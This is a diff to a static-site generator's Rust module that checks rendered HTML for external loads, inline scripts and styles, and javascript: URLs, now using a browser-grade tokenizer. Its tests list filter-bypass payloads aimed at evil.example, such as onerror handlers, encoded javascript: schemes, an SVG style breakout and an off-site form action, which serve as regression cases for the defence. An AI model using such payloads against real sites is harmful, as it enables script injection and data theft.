@@ -1,140 +1,30 @@
 //! What a page may load: nothing from another host before the visitor asks, and no
 //! inline scripts or styles (so a strict Content-Security-Policy holds) but the theme's
 //! own stylesheet, which `_headers` allows by its hash. Checked on every rendered page, so
-//! a template or an editor's raw HTML cannot slip one in.
+//! a template or an editor's raw HTML cannot slip one in, and on each piece of an editor's
+//! raw HTML, to name its line.
+//!
+//! The HTML is read by html5ever's tokenizer, as a browser reads it: a `>` inside quotes
+//! does not end a tag, entities in attribute values are decoded (`&#104;ttps:`), and URLs
+//! are resolved by the WHATWG URL parser (`/\host` is another host), so what the check
+//! sees is what the browser would load.
+
+use html5ever::tokenizer::states::RawKind;
+use html5ever::tokenizer::{
+    BufferQueue, Tag, TagKind, Token, TokenSink, TokenSinkResult, Tokenizer, TokenizerOpts,
+};
+use std::cell::RefCell;
 
 /// One finding: what the page would do.
 pub type Finding = String;
 
-/// HTML's whitespace between attributes (ASCII only, as browsers read it).
-fn space(b: u8) -> bool {
-    matches!(b, b' ' | b'\t' | b'\n' | b'\r' | b'\x0c')
-}
-
-/// The attributes of one start tag that the check looks at, borrowed from the page and
-/// unquoted. A name that appears twice counts once, as browsers read it: the first.
-#[derive(Default)]
-struct Attrs<'h> {
-    style: bool,
-    /// The first `on…` event handler's name.
-    handler: Option<&'h str>,
-    src: Option<&'h str>,
-    poster: Option<&'h str>,
-    data: Option<&'h str>,
-    srcset: Option<&'h str>,
-    rel: Option<&'h str>,
-    href: Option<&'h str>,
-    kind: Option<&'h str>,
-}
-
-impl<'h> Attrs<'h> {
-    /// Reads the attributes of a start tag (what follows its name). Run on every tag
-    /// with attributes of every page, so it works on bytes (every split is at an ASCII
-    /// byte), finds quotes with `memchr`, sorts each name once by its length, and
-    /// allocates nothing.
-    fn parse(tag: &'h str) -> Attrs<'h> {
-        let mut a = Attrs::default();
-        let b = tag.as_bytes();
-        let n = b.len();
-        // Generic, not `&dyn Fn`: a call through a pointer for every byte of every tag
-        // was most of the check's time.
-        fn skip(b: &[u8], mut i: usize, stop: impl Fn(u8) -> bool) -> usize {
-            while i < b.len() && !stop(b[i]) {
-                i += 1;
-            }
-            i
-        }
-        let mut i = 0;
-        loop {
-            i = skip(b, i, |c| !(space(c) || c == b'/'));
-            if i >= n {
-                break;
-            }
-            let start = i;
-            i = skip(b, i, |c| space(c) || c == b'=' || c == b'/');
-            let name = &tag[start..i];
-            i = skip(b, i, |c| !space(c));
-            let mut value = "";
-            if i < n && b[i] == b'=' {
-                i = skip(b, i + 1, |c| !space(c));
-                if i < n && (b[i] == b'"' || b[i] == b'\'') {
-                    let from = i + 1;
-                    let end = memchr::memchr(b[i], &b[from..]).map(|k| from + k);
-                    value = &tag[from..end.unwrap_or(n)];
-                    i = end.map_or(n, |e| e + 1);
-                } else {
-                    let from = i;
-                    i = skip(b, i, space);
-                    value = &tag[from..i];
-                }
-            }
-            if name.is_empty() {
-                break;
-            }
-            a.note(name, value);
-        }
-        a
-    }
-
-    fn note(&mut self, name: &'h str, value: &'h str) {
-        let is = |k: &str| name.eq_ignore_ascii_case(k);
-        let slot = match name.len() {
-            3 if is("src") => &mut self.src,
-            3 if is("rel") => &mut self.rel,
-            4 if is("data") => &mut self.data,
-            4 if is("href") => &mut self.href,
-            4 if is("type") => &mut self.kind,
-            5 if is("style") => {
-                self.style = true;
-                return;
-            }
-            6 if is("poster") => &mut self.poster,
-            6 if is("srcset") => &mut self.srcset,
-            _ => {
-                if self.handler.is_none()
-                    && name.get(..2).is_some_and(|p| p.eq_ignore_ascii_case("on"))
-                {
-                    self.handler = Some(name);
-                }
-                return;
-            }
-        };
-        slot.get_or_insert(value);
-    }
-}
-
-/// Whether a URL points at another host than the site (`base` without trailing slash).
-fn external(url: &str, base: &str) -> bool {
-    let u = url.trim();
-    let starts = |p: &str| u.get(..p.len()).is_some_and(|s| s.eq_ignore_ascii_case(p));
-    let absolute = starts("http://") || starts("https://") || u.starts_with("//");
-    absolute && !(u.starts_with(base) && matches!(u[base.len()..].chars().next(), None | Some('/')))
-}
-
-/// What a tag's name makes it, for the check.
-#[derive(PartialEq)]
-enum Element {
-    Style,
-    Script,
-    Link,
-    /// `iframe`, `frame`, `embed`, `object`: a finding whatever they load.
-    Embed,
-    /// Anything else: it loads what its `src`, `poster`, `data` or `srcset` name.
-    Other,
-}
-
-impl Element {
-    fn of(name: &str) -> Element {
-        let is = |k: &str| name.eq_ignore_ascii_case(k);
-        match name.len() {
-            4 if is("link") => Element::Link,
-            5 if is("style") => Element::Style,
-            5 if is("embed") || is("frame") => Element::Embed,
-            6 if is("script") => Element::Script,
-            6 if is("iframe") || is("object") => Element::Embed,
-            _ => Element::Other,
-        }
-    }
+/// A finding and where its tag ends: the 1-based line in the checked text, and the tag's
+/// name (to find where it starts on that line or an earlier one).
+#[derive(Debug, Clone, PartialEq)]
+pub struct Located {
+    pub what: Finding,
+    pub line: u64,
+    pub tag: String,
 }
 
 /// What pages may hold: links to `base` (the site's `base_url`) are the site's own, and a
@@ -146,119 +36,448 @@ pub struct Policy<'a> {
     pub inline_style: &'a str,
 }
 
-/// Everything in `html` that would load from another host, or run or style inline.
-pub fn check_html(html: &str, policy: Policy) -> Vec<Finding> {
-    let base = policy.base;
-    let mut found = Vec::new();
-    let bytes = html.as_bytes();
-    let mut at = 0;
-    // `memchr` finds the next `<` and `>` with SIMD; the scan runs over every byte of
-    // every page, and `str::find` took most of the check's time.
-    while let Some(lt) = memchr::memchr(b'<', &bytes[at..]) {
-        let start = at + lt + 1;
-        let end = memchr::memchr(b'>', &bytes[start..]).map_or(bytes.len(), |e| start + e);
-        at = end;
-        // Both ends are at ASCII bytes, so the slice is on character boundaries.
-        let tag = &html[start..end];
-        if tag.starts_with('/') || tag.starts_with('!') {
-            continue;
-        }
-        let name_end = tag
-            .bytes()
-            .position(|c| space(c) || c == b'/')
-            .unwrap_or(tag.len());
-        let name = &tag[..name_end];
-        let element = Element::of(name);
-        // Most tags (`<p>`, `<li>`) have no attributes at all.
-        let rest = &tag[name_end..];
-        let attrs = if memchr::memchr(b'=', rest.as_bytes()).is_some() {
-            Attrs::parse(rest)
-        } else if element != Element::Other {
-            Attrs::default()
-        } else {
-            continue;
-        };
-        if attrs.style {
-            found.push(format!("an inline style attribute on <{name}>"));
-        }
-        if let Some(n) = attrs.handler {
-            found.push(format!("an inline event handler `{n}` on <{name}>"));
-        }
-        match element {
-            Element::Style => {
-                // The text up to `</style` (the only way the element ends); CSS text may
-                // hold `>` and `<` in strings, so the scan goes on after it.
-                let text_start = (end + 1).min(html.len());
-                let close = find_ascii_ci(&html[text_start..], "</style").map(|i| text_start + i);
-                let text = &html[text_start..close.unwrap_or(html.len())];
-                if policy.inline_style.is_empty() || text != policy.inline_style {
-                    found.push("an inline <style> element".into());
-                }
-                at = close.unwrap_or(html.len());
+/// What a URL in an attribute would make the browser do, resolved against the site.
+#[derive(PartialEq)]
+enum Target {
+    /// This site's own origin (or a link the visitor follows: `tel:`, `mailto:` …).
+    Own,
+    /// Another host (`https://`, `//`, `/\`).
+    Elsewhere,
+    /// `javascript:` (or `vbscript:`): code run by the URL.
+    Script,
+    /// `data:`: content carried in the page itself.
+    Data,
+    /// Anything else a browser would fetch (`blob:`, `file:`, `ftp:` …).
+    Other(String),
+}
+
+fn target(value: &str, base: &url::Url) -> Target {
+    // Most URLs of a page are paths on the site: without a scheme, a backslash, a control
+    // character or a leading `//`, no parser could make them anything else.
+    let plain = !value.bytes().any(|b| b == b':' || b == b'\\' || b < 0x20)
+        && !value.trim_start().starts_with("//");
+    if plain {
+        return Target::Own;
+    }
+    let Ok(url) = base.join(value) else {
+        // The browser cannot resolve it either, so it loads nothing.
+        return Target::Own;
+    };
+    match url.scheme() {
+        "javascript" | "vbscript" => Target::Script,
+        "data" => Target::Data,
+        "http" | "https" | "ws" | "wss" => {
+            if url.origin() == base.origin() {
+                Target::Own
+            } else {
+                Target::Elsewhere
             }
-            Element::Script => match attrs.src {
-                Some(src) if external(src, base) => {
-                    found.push(format!("a script from another host: {src}"))
+        }
+        "tel" | "mailto" | "sms" | "geo" => Target::Own,
+        other => Target::Other(other.to_string()),
+    }
+}
+
+/// `rel` values of `<link>` that fetch nothing: anything else (`stylesheet`, `preload`,
+/// `prerender`, `icon` …, or a value a later browser learns) must point at the site.
+const INERT_RELS: &[&str] = &[
+    "alternate",
+    "canonical",
+    "author",
+    "license",
+    "help",
+    "me",
+    "next",
+    "prev",
+    "bookmark",
+    "tag",
+];
+
+/// Elements whose text the tokenizer reads as text, not markup (outside `<svg>`/`<math>`).
+/// `<noscript>` is not one: without JavaScript its contents are markup that loads.
+fn raw_kind(name: &str) -> Option<RawKind> {
+    Some(match name {
+        "script" => RawKind::ScriptData,
+        "style" | "xmp" | "iframe" | "noembed" | "noframes" => RawKind::Rawtext,
+        "title" | "textarea" => RawKind::Rcdata,
+        _ => return None,
+    })
+}
+
+struct State {
+    base: url::Url,
+    inline_style: String,
+    found: Vec<Located>,
+    /// How deep in `<svg>`/`<math>`, where `<style>` and `<script>` hold markup.
+    foreign: usize,
+    /// The `<style>` element being read: its text so far and the line it began on.
+    style: Option<(String, u64)>,
+    /// Stop reading after this many findings: a page with more is refused anyway.
+    limit: usize,
+}
+
+struct Sink(RefCell<State>);
+
+impl TokenSink for Sink {
+    type Handle = ();
+
+    fn process_token(&self, token: Token, line: u64) -> TokenSinkResult<()> {
+        let mut s = self.0.borrow_mut();
+        match token {
+            Token::TagToken(tag) => s.tag(&tag, line),
+            Token::CharacterTokens(text) => {
+                if let Some((style, _)) = &mut s.style {
+                    style.push_str(&text);
                 }
-                Some(_) => {}
-                None if attrs
-                    .kind
-                    .is_some_and(|t| t.eq_ignore_ascii_case("application/ld+json")) => {}
-                None => found.push("an inline <script>".into()),
-            },
-            Element::Link => {
-                let rel = attrs.rel.unwrap_or("");
-                let loads = [
-                    "stylesheet",
-                    "icon",
-                    "preload",
-                    "prefetch",
-                    "preconnect",
-                    "dns-prefetch",
-                    "modulepreload",
-                    "manifest",
-                ];
-                let loading = |r: &str| loads.iter().any(|l| r.eq_ignore_ascii_case(l));
-                if rel.split_whitespace().any(loading) {
-                    if let Some(href) = attrs.href.filter(|h| external(h, base)) {
-                        let rel = rel.to_ascii_lowercase();
-                        found.push(format!("<link rel=\"{rel}\"> to another host: {href}"));
-                    }
-                }
+                TokenSinkResult::Continue
             }
-            Element::Embed => {
-                let src = attrs.src.or(attrs.data).unwrap_or("");
-                found.push(format!("an embedded <{name}> {src}").trim_end().to_string());
+            Token::EOFToken => {
+                s.end_style("style");
+                TokenSinkResult::Continue
             }
-            Element::Other => {
-                for (key, value) in [
-                    ("src", attrs.src),
-                    ("poster", attrs.poster),
-                    ("data", attrs.data),
-                ] {
-                    if let Some(v) = value.filter(|v| external(v, base)) {
-                        found.push(format!("<{name} {key}> loads from another host: {v}"));
-                    }
-                }
-                if let Some(set) = attrs.srcset {
-                    for candidate in set.split(',') {
-                        let url = candidate.split_whitespace().next().unwrap_or("");
-                        if external(url, base) {
-                            found.push(format!("<{name} srcset> loads from another host: {url}"));
-                        }
-                    }
-                }
+            _ => TokenSinkResult::Continue,
+        }
+    }
+
+    fn adjusted_current_node_present_but_not_in_html_namespace(&self) -> bool {
+        // Inside <svg>/<math>, `<![CDATA[…]]>` is text, as the browser reads it.
+        self.0.borrow().foreign > 0
+    }
+}
+
+impl State {
+    fn push(&mut self, what: String, line: u64, tag: &str) {
+        if self.found.len() < self.limit {
+            self.found.push(Located {
+                what,
+                line,
+                tag: tag.to_string(),
+            });
+        }
+    }
+
+    fn end_style(&mut self, name: &str) {
+        if let Some((text, line)) = self.style.take() {
+            if self.inline_style.is_empty() || text != self.inline_style {
+                self.push("an inline <style> element".into(), line, name);
             }
         }
     }
+
+    fn tag(&mut self, tag: &Tag, line: u64) -> TokenSinkResult<()> {
+        let name: &str = &tag.name;
+        if tag.kind == TagKind::EndTag {
+            match name {
+                "svg" | "math" => self.foreign = self.foreign.saturating_sub(1),
+                "style" => self.end_style(name),
+                _ => {}
+            }
+            return TokenSinkResult::Continue;
+        }
+        self.attributes(tag, line);
+        match name {
+            "svg" | "math" if !tag.self_closing => self.foreign += 1,
+            "iframe" | "frame" | "embed" | "object" | "applet" | "portal" | "fencedframe" => {
+                let src = attr(tag, "src").or_else(|| attr(tag, "data"));
+                let what = format!("an embedded <{name}> {}", src.unwrap_or_default());
+                self.push(what.trim_end().to_string(), line, name);
+            }
+            "script" => self.script(tag, line),
+            "style" => {
+                if self.foreign == 0 {
+                    self.style = Some((String::new(), line));
+                } else {
+                    self.push("an inline <style> element".into(), line, name);
+                }
+            }
+            "base" => self.push(
+                "a <base> element (it changes where every link of the page goes)".into(),
+                line,
+                name,
+            ),
+            "meta" => {
+                let refresh = attr(tag, "http-equiv")
+                    .is_some_and(|v| v.trim().eq_ignore_ascii_case("refresh"));
+                let content = attr(tag, "content").unwrap_or_default();
+                if refresh && target(refresh_url(content), &self.base) != Target::Own {
+                    self.push(
+                        format!("a <meta http-equiv=\"refresh\"> that leaves the site: {content}"),
+                        line,
+                        name,
+                    );
+                }
+            }
+            "link" => self.link(tag, line),
+            _ => {}
+        }
+        match raw_kind(name) {
+            Some(kind) if self.foreign == 0 && !tag.self_closing => TokenSinkResult::RawData(kind),
+            _ if name == "plaintext" && self.foreign == 0 => TokenSinkResult::Plaintext,
+            _ => TokenSinkResult::Continue,
+        }
+    }
+
+    fn script(&mut self, tag: &Tag, line: u64) {
+        let src = attr(tag, "src")
+            .or_else(|| attr(tag, "href"))
+            .or_else(|| attr(tag, "xlink:href"));
+        match src {
+            Some(src) => match target(src, &self.base) {
+                Target::Own => {}
+                Target::Elsewhere => {
+                    self.push(format!("a script from another host: {src}"), line, "script")
+                }
+                _ => self.push(format!("a script from a `{src}` URL"), line, "script"),
+            },
+            None if attr(tag, "type")
+                .is_some_and(|t| t.trim().eq_ignore_ascii_case("application/ld+json")) => {}
+            None => self.push("an inline <script>".into(), line, "script"),
+        }
+    }
+
+    fn link(&mut self, tag: &Tag, line: u64) {
+        let rel = attr(tag, "rel").unwrap_or_default().to_ascii_lowercase();
+        let inert = !rel.trim().is_empty()
+            && rel
+                .split_ascii_whitespace()
+                .all(|r| INERT_RELS.contains(&r));
+        let hrefs = ["href", "imagesrcset"];
+        for key in hrefs {
+            let Some(value) = attr(tag, key) else {
+                continue;
+            };
+            for url in urls(key, value) {
+                let t = target(url, &self.base);
+                // An icon is an image: `data:` is allowed (`href="data:,"` asks for none).
+                let icon = rel.split_ascii_whitespace().any(|r| r.ends_with("icon"));
+                if t == Target::Own
+                    || (inert && t == Target::Elsewhere)
+                    || (icon && t == Target::Data)
+                {
+                    continue;
+                }
+                self.push(
+                    format!("<link rel=\"{}\"> to {}", rel.trim(), describe(&t, url)),
+                    line,
+                    "link",
+                );
+            }
+        }
+    }
+
+    /// Every attribute of a start tag: inline styles and handlers, and what the URL-bearing
+    /// ones load.
+    fn attributes(&mut self, tag: &Tag, line: u64) {
+        let name: &str = &tag.name;
+        for a in &tag.attrs {
+            let key: &str = &a.name.local;
+            let value: &str = &a.value;
+            if key == "style" {
+                self.push(format!("an inline style attribute on <{name}>"), line, name);
+            } else if key.len() > 2 && key.starts_with("on") {
+                self.push(
+                    format!("an inline event handler `{key}` on <{name}>"),
+                    line,
+                    name,
+                );
+            } else if loads(name, key) {
+                for url in urls(key, value) {
+                    match target(url, &self.base) {
+                        Target::Own => {}
+                        Target::Data if image(name, key) => {}
+                        t => self.push(
+                            format!("<{name} {key}> loads {}", describe(&t, url)),
+                            line,
+                            name,
+                        ),
+                    }
+                }
+            } else if matches!(key, "href" | "xlink:href" | "action" | "formaction") {
+                // Links the visitor follows may go anywhere but into code; forms may not
+                // send what a child types to another host.
+                match target(value, &self.base) {
+                    Target::Script => {
+                        self.push(format!("a `javascript:` URL in <{name} {key}>"), line, name)
+                    }
+                    Target::Elsewhere if matches!(key, "action" | "formaction") => self.push(
+                        format!("<{name} {key}> sends a form to another host: {value}"),
+                        line,
+                        name,
+                    ),
+                    _ => {}
+                }
+            } else if script_url(value) {
+                // `<animate values="javascript:…">` and the like set a link's URL.
+                self.push(format!("a `javascript:` URL in <{name} {key}>"), line, name);
+            }
+        }
+    }
+}
+
+/// The URL of a refresh's `content` (`0; url=/en/new/`), as the HTML standard reads it:
+/// after the delay, an optional `url=`, optional quotes.
+fn refresh_url(content: &str) -> &str {
+    let rest = content.trim_start_matches(|c: char| c.is_ascii_digit() || c == '.' || c <= ' ');
+    let rest = rest.trim_start_matches([';', ',']).trim_start();
+    let rest = match rest.get(..4) {
+        Some(p) if p.eq_ignore_ascii_case("url=") => &rest[4..],
+        _ => match rest.get(..3) {
+            Some(p) if p.eq_ignore_ascii_case("url") => {
+                rest[3..].trim_start().trim_start_matches('=').trim_start()
+            }
+            _ => rest,
+        },
+    };
+    rest.trim_start_matches(['"', '\''])
+        .trim_end_matches(['"', '\''])
+}
+
+/// Whether `value` reads as a `javascript:` or `vbscript:` URL, as the URL parser would
+/// (leading spaces and controls ignored, tabs and newlines dropped).
+fn script_url(value: &str) -> bool {
+    let v = value.trim_start_matches(|c: char| c <= ' ');
+    if !v.contains(':') {
+        return false;
+    }
+    let head: String = v
+        .chars()
+        .filter(|c| !matches!(c, '\t' | '\n' | '\r'))
+        .take(11)
+        .collect::<String>()
+        .to_ascii_lowercase();
+    head.starts_with("javascript:") || head.starts_with("vbscript:")
+}
+
+/// Whether attribute `key` of `element` would load something from elsewhere than the
+/// site at `base` (the sanitizer drops such attributes).
+pub fn loads_elsewhere(element: &str, key: &str, value: &str, base: &str) -> bool {
+    if !loads(element, key) {
+        return false;
+    }
+    let base = site_url(base);
+    urls(key, value)
+        .into_iter()
+        .any(|u| match target(u, &base) {
+            Target::Own => false,
+            Target::Data => !image(element, key),
+            _ => true,
+        })
+}
+
+/// Whether `key` of `element` is an image, which may be a `data:` URL (the policy's
+/// `img-src 'self' data:`).
+fn image(element: &str, key: &str) -> bool {
+    matches!(element, "img" | "source" | "image" | "picture") || key == "poster"
+}
+
+/// The site's address as a base for URLs (a made-up one if `base_url` is not one, so
+/// that every absolute URL counts as elsewhere).
+fn site_url(base: &str) -> url::Url {
+    url::Url::parse(&format!("{}/", base.trim_end_matches('/')))
+        .or_else(|_| url::Url::parse("https://waymark.invalid/"))
+        .expect("a literal URL parses")
+}
+
+/// Whether attribute `key` of element `name` makes the browser fetch its URL when the
+/// page loads (or, for `ping`, when a link is followed).
+fn loads(name: &str, key: &str) -> bool {
+    // Scripts, links and embedded documents are checked as what they are.
+    if matches!(
+        name,
+        "script"
+            | "link"
+            | "iframe"
+            | "frame"
+            | "embed"
+            | "object"
+            | "applet"
+            | "portal"
+            | "fencedframe"
+    ) {
+        return false;
+    }
+    match key {
+        "src" | "srcset" | "poster" | "data" | "background" | "lowsrc" | "dynsrc" | "ping"
+        | "imagesrcset" | "codebase" | "archive" => true,
+        "href" | "xlink:href" => matches!(name, "image" | "use" | "feimage" | "feImage"),
+        _ => false,
+    }
+}
+
+/// The URLs an attribute holds: a `srcset` is a list of candidates.
+fn urls<'v>(key: &str, value: &'v str) -> Vec<&'v str> {
+    if key.ends_with("srcset") {
+        value
+            .split(',')
+            .filter_map(|c| c.split_ascii_whitespace().next())
+            .collect()
+    } else if key == "ping" || key == "archive" {
+        value.split_ascii_whitespace().collect()
+    } else {
+        vec![value]
+    }
+}
+
+fn describe(t: &Target, url: &str) -> String {
+    match t {
+        Target::Own => format!("this site: {url}"),
+        Target::Elsewhere => format!("from another host: {url}"),
+        Target::Script => format!("a `javascript:` URL: {url}"),
+        Target::Data => "a `data:` URL".to_string(),
+        Target::Other(scheme) => format!("a `{scheme}:` URL: {url}"),
+    }
+}
+
+fn attr<'t>(tag: &'t Tag, key: &str) -> Option<&'t str> {
+    tag.attrs
+        .iter()
+        .find(|a| &*a.name.local == key)
+        .map(|a| &*a.value)
+}
+
+/// Everything in `html` that would load from another host, or run or style inline, with
+/// the line of each.
+pub fn check_located(html: &str, policy: Policy) -> Vec<Located> {
+    let state = State {
+        base: site_url(policy.base),
+        inline_style: policy.inline_style.to_string(),
+        found: Vec::new(),
+        foreign: 0,
+        style: None,
+        limit: 1000,
+    };
+    let tokenizer = Tokenizer::new(Sink(RefCell::new(state)), TokenizerOpts::default());
+    let input = BufferQueue::default();
+    input.push_back(html5ever::tendril::StrTendril::from_slice(html));
+    // Feeding goes on until the input is read: the sink never stops for a script.
+    while !matches!(tokenizer.feed(&input), html5ever::TokenizerResult::Done) && !input.is_empty() {
+    }
+    tokenizer.end();
+    let found = std::mem::take(&mut tokenizer.sink.0.borrow_mut().found);
     found
 }
 
-/// The first place of `needle` (ASCII, lower case) in `hay`, in any case.
-fn find_ascii_ci(hay: &str, needle: &str) -> Option<usize> {
-    let (h, n) = (hay.as_bytes(), needle.as_bytes());
-    memchr::memchr_iter(b'<', h)
-        .find(|&i| h.len() >= i + n.len() && h[i..i + n.len()].eq_ignore_ascii_case(n))
+/// Everything in `html` that would load from another host, or run or style inline.
+pub fn check_html(html: &str, policy: Policy) -> Vec<Finding> {
+    check_located(html, policy)
+        .into_iter()
+        .map(|f| f.what)
+        .collect()
+}
+
+/// The byte offset in `text` where the tag of `found` starts: the last `<name` on its
+/// line or before (a tag may span lines; the tokenizer names the line it ends on).
+pub fn tag_offset(text: &str, found: &Located) -> usize {
+    let line = usize::try_from(found.line.max(1)).unwrap_or(usize::MAX);
+    let end = text
+        .match_indices('\n')
+        .nth(line - 1)
+        .map_or(text.len(), |(i, _)| i);
+    let needle = format!("<{}", found.tag);
+    let hay = text[..end].to_ascii_lowercase();
+    hay.rfind(&needle.to_ascii_lowercase())
+        .or_else(|| text[..end].rfind('\n').map(|i| i + 1))
+        .unwrap_or(0)
 }
 
 /// A page that would load from another host, or run or style inline, is an error naming
@@ -336,5 +555,60 @@ mod tests {
             ..BASE
         };
         assert_eq!(check_html("<style></style>", none).len(), 1);
+    }
+
+    /// The attacks on the first, hand-written scan (issue 21, S2): each is found.
+    #[test]
+    fn what_the_browser_would_read_is_what_is_checked() {
+        let cases = [
+            // A `>` inside quotes does not end the tag.
+            r#"<img alt=">" src=x onerror="alert(1)">"#,
+            // Entities decoded, backslashes read as the URL parser reads them.
+            r#"<img src="&#104;ttps://evil.example/p.gif">"#,
+            r#"<img src="/\evil.example/p.gif">"#,
+            "<img src=\"ht\ttps://evil.example/p.gif\">",
+            r#"<script src="data:text/javascript,alert(1)"></script>"#,
+            r#"<base href="https://evil.example/">"#,
+            r#"<link rel=prerender href="https://evil.example/">"#,
+            r#"<link rel="stylesheet" href="data:text/css,p{}">"#,
+            r#"<svg><image href="https://evil.example/i.png"/></svg>"#,
+            r#"<svg><use xlink:href="https://evil.example/s.svg#a"/></svg>"#,
+            r#"<table background="https://evil.example/b.png"></table>"#,
+            r#"<meta http-equiv="refresh" content="0;url=http://other.example/">"#,
+            r#"<a href="jav&#x09;ascript:alert(1)">x</a>"#,
+            r#"<a href=" JAVASCRIPT:alert(1)">x</a>"#,
+            r#"<svg><a><animate attributeName="href" values="javascript:alert(1)"/></a></svg>"#,
+            r#"<form action="https://evil.example/collect"><input></form>"#,
+            r#"<a href="/x" ping="https://evil.example/track">x</a>"#,
+            r#"<video src="blob:https://example.org/1"></video>"#,
+            // Not raw text inside <svg>: the tag after the breakout is read.
+            r#"<svg><style><img src="https://evil.example/p.gif"></style></svg>"#,
+            // <noscript> holds markup when JavaScript is off.
+            r#"<noscript><img src="https://evil.example/p.gif"></noscript>"#,
+        ];
+        for c in cases {
+            assert!(!check_html(c, BASE).is_empty(), "not found: {c}");
+        }
+    }
+
+    #[test]
+    fn links_out_and_own_urls_in_any_spelling_are_fine() {
+        let html = r##"<a href="https://www.unicef.org/" rel="noopener">u</a><a href="tel:+441234">t</a>
+<a href="mailto:a@example.org">m</a><a href="#top">top</a><img src="data:image/png;base64,AAAA" alt="">
+<img src="HTTPS://EXAMPLE.ORG/a.png" alt=""><img src="&#47;en/a.png" alt=""><p title="a > b">x</p>
+<link rel="icon" href="data:,"><link rel="alternate" hreflang="ar" href="https://example.org/ar/"><link rel="license" href="https://creativecommons.org/licenses/by/4.0/">
+<meta http-equiv="refresh" content="0; url=/en/new/"><meta http-equiv="Refresh" content="0;URL='https://example.org/x'">
+<textarea><img src="https://evil.example/p.gif"></textarea><form action="/search/en/"><input name="q"></form>
+<script type="application/ld+json">{"a":"<img src=https://x.example/>"}</script>"##;
+        assert_eq!(check_html(html, BASE), Vec::<String>::new());
+    }
+
+    #[test]
+    fn findings_carry_the_line_and_the_start_of_their_tag() {
+        let text = "<div>\n<p>ok</p>\n<img\n  src=x onerror=alert(1)>\n</div>\n";
+        let found = check_located(text, BASE);
+        assert_eq!(found.len(), 1);
+        assert_eq!(found[0].line, 4);
+        assert_eq!(tag_offset(text, &found[0]), text.find("<img").unwrap());
     }
 }
